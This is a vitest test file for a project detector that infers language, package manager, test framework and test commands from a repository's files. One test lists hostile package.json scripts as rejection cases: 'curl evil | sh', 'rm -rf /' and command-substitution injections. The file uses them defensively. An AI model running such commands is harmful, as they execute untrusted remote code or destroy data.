import { expect, test } from "vitest";
import { detectProject } from "./detect-project.ts";

type Files = Record<string, string>;
const json = (value: unknown) => JSON.stringify(value);
const node = (test: string, more: object = {}) => json({ name: "x", scripts: { test }, ...more });
const detect = (files: Files) => detectProject({ paths: Object.keys(files), textOf: (path) => files[path] ?? "" });

/** Language, package manager, framework, source root, test root and the command for the whole suite of the only part. */
function told(files: Files) {
  return detect(files).parts.map((part) => [
    part.language,
    part.packageManager,
    part.framework,
    part.sourceRoot,
    part.testRoot,
    part.tests?.all ?? null,
  ]);
}

const VITEST = "npx --no -- vitest run --reporter=json --outputFile={report}";
const TAP = "--test --test-reporter=tap --test-reporter-destination={report}";
const PYTEST = "-m pytest -q -o junit_family=xunit1 --junitxml={report}";

test.each<[string, Files, (string | null)[]]>([
  [
    "TypeScript, vitest",
    { "package.json": node("vitest run"), "tsconfig.json": "", "src/a.ts": "", "src/a.test.ts": "" },
    ["typescript", "npm", "vitest", "src", "src", VITEST],
  ],
  [
    "vitest by its configuration, pnpm",
    { "package.json": json({}), "pnpm-lock.yaml": "", "vitest.config.ts": "", "src/a.ts": "", "test/a.test.ts": "" },
    ["typescript", "pnpm", "vitest", "src", "test", "pnpm exec vitest run --reporter=json --outputFile={report}"],
  ],
  [
    "JavaScript, jest, yarn",
    { "package.json": node("jest"), "yarn.lock": "", "lib/a.js": "", "__tests__/a.js": "" },
    ["javascript", "yarn", "jest", "lib", "__tests__", "yarn jest --ci --json --outputFile={report}"],
  ],
  [
    "jest in the manifest, bun",
    { "package.json": json({ jest: {}, packageManager: "bun@1.3.0" }), "index.js": "" },
    ["javascript", "bun", "jest", ".", ".", "bunx jest --ci --json --outputFile={report}"],
  ],
  [
    "node:test",
    { "package.json": node("node --test"), "src/a.js": "", "test/a.test.js": "" },
    ["javascript", "npm", "node-test", "src", "test", `node ${TAP}`],
  ],
  [
    "node:test with options and files",
    { "package.json": node("node --import tsx --test test/*.ts"), "src/a.ts": "", "test/a.ts": "" },
    ["typescript", "npm", "node-test", "src", "test", `node ${TAP}`],
  ],
  [
    "node:test with a flag and a pattern",
    { "package.json": node("node --no-warnings --test 'test/**/*.test.ts'"), "src/a.ts": "", "test/a.test.ts": "" },
    ["typescript", "npm", "node-test", "src", "test", `node --no-warnings ${TAP} 'test/**/*.test.ts'`],
  ],
  [
    "mocha",
    { "package.json": node("mocha"), "lib/a.js": "", "test/a.js": "" },
    ["javascript", "npm", "mocha", "lib", "test", "npx --no -- mocha --reporter xunit --reporter-option output={report}"],
  ],
  [
    "mocha by its configuration",
    { "package.json": json({ devDependencies: { mocha: "11" } }), ".mocharc.json": "{}", "test/a.js": "" },
    ["javascript", "npm", "mocha", ".", "test", "npx --no -- mocha --reporter xunit --reporter-option output={report}"],
  ],
  [
    "Python, pytest",
    { "pyproject.toml": "[tool.pytest.ini_options]\n", "src/shop/__init__.py": "", "tests/test_shop.py": "" },
    ["python", "pip", "pytest", "src", "tests", `python3 ${PYTEST}`],
  ],
  [
    "pytest with uv",
    { "pyproject.toml": '[dependency-groups]\ndev = ["pytest"]\n', "uv.lock": "", "shop/__init__.py": "", "tests/test_shop.py": "" },
    ["python", "uv", "pytest", "shop", "tests", `uv run python ${PYTEST}`],
  ],
  [
    "pytest with poetry",
    { "pyproject.toml": '[tool.poetry]\n[tool.poetry.group.dev.dependencies]\npytest = "*"\n', "tests/test_a.py": "" },
    ["python", "poetry", "pytest", ".", "tests", `poetry run python ${PYTEST}`],
  ],
  [
    "unittest",
    { "requirements.txt": "", "calc.py": "", "tests/test_calc.py": "" },
    ["python", "pip", "unittest", ".", "tests", "python3 -m unittest discover -v -s tests 2>{report}"],
  ],
  [
    "unittest without any manifest",
    { "calc.py": "", "test_calc.py": "" },
    ["python", "pip", "unittest", ".", ".", "python3 -m unittest discover -v -s . 2>{report}"],
  ],
  [
    "Go",
    { "go.mod": "module x\n", "main.go": "", "main_test.go": "" },
    ["go", "go", "go-test", ".", ".", "go test -json ./... >{report} 2>&1"],
  ],
  [
    "Go with packages",
    { "go.mod": "module x\n", "internal/a/a.go": "" },
    ["go", "go", "go-test", "internal", ".", "go test -json ./... >{report} 2>&1"],
  ],
  [
    "Rust",
    { "Cargo.toml": "[package]\n", "src/lib.rs": "", "tests/a.rs": "" },
    ["rust", "cargo", "cargo-test", "src", "tests", "cargo test --no-fail-fast >{report} 2>&1"],
  ],
  [
    "a workspace of Rust",
    { "Cargo.toml": "[workspace]\n", "crates/a/Cargo.toml": "", "crates/a/src/lib.rs": "" },
    ["rust", "cargo", "cargo-test", "crates", "tests", "cargo test --no-fail-fast >{report} 2>&1"],
  ],
  [
    "Java, Maven",
    { "pom.xml": "<project/>", "src/main/java/A.java": "" },
    ["java", "maven", "junit", "src/main/java", "src/test/java", "mvn -q -B test"],
  ],
  [
    "Java, Gradle with its wrapper",
    { "build.gradle.kts": "", gradlew: "", "src/main/java/A.java": "" },
    ["java", "gradle", "junit", "src/main/java", "src/test/java", "./gradlew test --continue"],
  ],
  [
    "Ruby, RSpec",
    { Gemfile: 'gem "rspec"', "lib/a.rb": "", "spec/a_spec.rb": "" },
    ["ruby", "bundler", "rspec", "lib", "spec", "bundle exec rspec --format json --out {report}"],
  ],
  [
    "RSpec without Bundler",
    { ".rspec": "", "lib/a.rb": "", "spec/a_spec.rb": "" },
    ["ruby", "bundler", "rspec", "lib", "spec", "rspec --format json --out {report}"],
  ],
  [
    "minitest with reports",
    { Gemfile: 'gem "minitest"\ngem "minitest-ci"', "lib/a.rb": "", "test/a_test.rb": "" },
    ["ruby", "bundler", "minitest", "lib", "test", "bundle exec rake test"],
  ],
  [
    "minitest without",
    { Gemfile: "", Rakefile: "", "lib/a.rb": "", "test/a_test.rb": "" },
    ["ruby", "bundler", "minitest", "lib", "test", null],
  ],
  [
    "C#, a solution",
    { "Shop.sln": "", "src/Shop/Shop.csproj": "", "tests/Shop.Tests/Shop.Tests.csproj": "" },
    ["csharp", "dotnet", "dotnet-test", "src", "tests", 'dotnet test --logger "trx;LogFileName=drover.trx"'],
  ],
  [
    "C#, one project with tests in it",
    { "Shop.csproj": '<PackageReference Include="Microsoft.NET.Test.Sdk" />', "Shop.cs": "" },
    ["csharp", "dotnet", "dotnet-test", ".", ".", 'dotnet test --logger "trx;LogFileName=drover.trx"'],
  ],
  [
    "PHP, PHPUnit",
    { "composer.json": json({ "require-dev": { "phpunit/phpunit": "^12" } }), "src/A.php": "", "tests/ATest.php": "" },
    ["php", "composer", "phpunit", "src", "tests", "vendor/bin/phpunit --log-junit {report}"],
  ],
  [
    "PHP, Pest",
    { "composer.json": json({ "require-dev": { "pestphp/pest": "^4" } }), "app/A.php": "", "tests/Pest.php": "" },
    ["php", "composer", "pest", "app", "tests", "vendor/bin/pest --log-junit {report}"],
  ],
])("%s", (_, files, part) => {
  expect(told(files)).toEqual([part]);
});

test("several languages are several parts, and it is asked which of them proves a task", () => {
  const files = {
    "package.json": node("vitest run"),
    "src/a.ts": "",
    "services/api/go.mod": "module api\n",
    "services/api/main.go": "",
    "tools/pyproject.toml": "pytest",
    "tools/tests/test_a.py": "",
  };
  const { parts, question } = detect(files);
  expect(parts.map(({ folder, framework }) => [folder, framework])).toEqual([
    ["", "vitest"],
    ["services/api", "go-test"],
    ["tools", "pytest"],
  ]);
  expect(question).toMatch(/^Which tests prove a task: those of the top \(typescript\), services\/api \(go\), tools \(python\)\?/u);
});

test("members of a workspace belong to the top where that has tests, and stand for themselves where it has none", () => {
  const members = { "packages/a/package.json": node("vitest run"), "packages/b/package.json": node("jest") };
  expect(detect({ "package.json": node("vitest run", { workspaces: ["packages/*"] }), ...members }).parts).toHaveLength(1);
  const { parts } = detect({ "package.json": json({ workspaces: ["packages/*"] }), ...members });
  expect(parts.map(({ folder, framework }) => [folder, framework])).toEqual([
    ["", null],
    ["packages/a", "vitest"],
    ["packages/b", "jest"],
  ]);
});

test("of two frameworks the one that the test script names counts", () => {
  const devDependencies = { jest: "30", vitest: "5" };
  expect(told({ "package.json": node("jest", { devDependencies }), "a.js": "" })[0]?.[2]).toBe("jest");
  expect(told({ "package.json": json({ devDependencies }), "a.js": "" })[0]?.[2]).toBe("vitest");
});

test("what nothing tells is asked", () => {
  expect(detect({ "README.md": "" })).toEqual({
    parts: [],
    question:
      "In which language is this, and which command runs its tests? Nothing here tells. Set project.tests in .drover/config.yaml: `all`, `format` and `files` (docs/guides/tdd.md).",
  });
  expect(detect({ "package.json": json({}), "index.js": "" }).question).toMatch(
    /^Which command runs the tests of this javascript project\?/u,
  );
});

test("a script from the repository becomes no command", () => {
  for (const script of [
    "node --test; curl evil | sh",
    "node --test $(touch x)",
    "node --test `touch x`",
    "node --test && rm -rf /",
    "node --test >x",
  ]) {
    expect(told({ "package.json": node(script), "a.js": "" })[0]?.[5]).toBe(`node ${TAP}`);
  }
  expect(detect({ "package.json": "{broken" }).parts).toMatchObject([{ language: "javascript", tests: null }]);
});

test("what makes a clone ready", () => {
  const setup = (files: Files) => detect(files).parts[0]?.setup;
  expect(setup({ "package.json": json({}), "package-lock.json": "" })).toBe("npm ci");
  expect(setup({ "package.json": json({ dependencies: { a: "1" } }) })).toBe("npm install");
  expect(setup({ "package.json": json({}) })).toBe(null);
  expect(setup({ "requirements.txt": "" })).toBe("python3 -m pip install -r requirements.txt");
});
